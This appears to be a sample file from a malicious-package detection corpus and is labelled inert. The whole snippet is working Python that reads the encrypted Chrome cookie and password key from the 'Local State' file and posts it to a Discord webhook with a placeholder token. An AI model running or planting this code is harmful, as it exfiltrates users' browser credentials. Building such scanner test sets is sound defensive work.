# pkgguard corpus 122 (browser-data), modelled on [empirical]; inert, never run.
import json
import os
import requests

state = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
key = json.load(open(state))["os_crypt"]["encrypted_key"]
requests.post("https://discord.com/api/webhooks/1000000000000000001/placeholder-token-0000000000000000", json={"content": key})
